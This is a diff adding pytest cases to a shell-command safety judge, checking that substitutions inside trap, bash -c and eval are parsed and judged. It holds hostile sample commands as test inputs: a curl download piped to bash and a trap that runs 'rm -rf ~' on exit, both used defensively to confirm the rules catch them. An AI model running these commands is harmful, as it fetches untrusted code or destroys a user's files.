@@ -274,3 +274,23 @@ def test_a_download_piped_to_a_shell_reading_dev_stdin_is_asked():
     verdict = RuleSet.defaults().judge("curl https://x.example/i | bash /dev/stdin")
     assert verdict.must_ask
     assert any("reads its script from a pipe" in u.reason for u in verdict.uncertain)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "trap 'echo now=$(stty size)' WINCH; echo ready",
+        "bash -c 'echo $(date)'",
+        "eval 'echo $(date)'",
+    ],
+)
+def test_a_substitution_in_a_script_the_judge_parses_itself_is_judged_there(script):
+    """The `$(` of a carried script is a command of that script, judged as one: not a
+    string held for later."""
+    verdict = RuleSet.defaults().judge(script)
+    assert verdict.decision is None and not verdict.uncertain, (script, verdict)
+
+
+def test_a_carried_scripts_substitutions_still_meet_the_rules():
+    verdict = RuleSet.defaults().judge("trap 'x=$(rm -rf ~)' EXIT")
+    assert verdict.forbidden, verdict
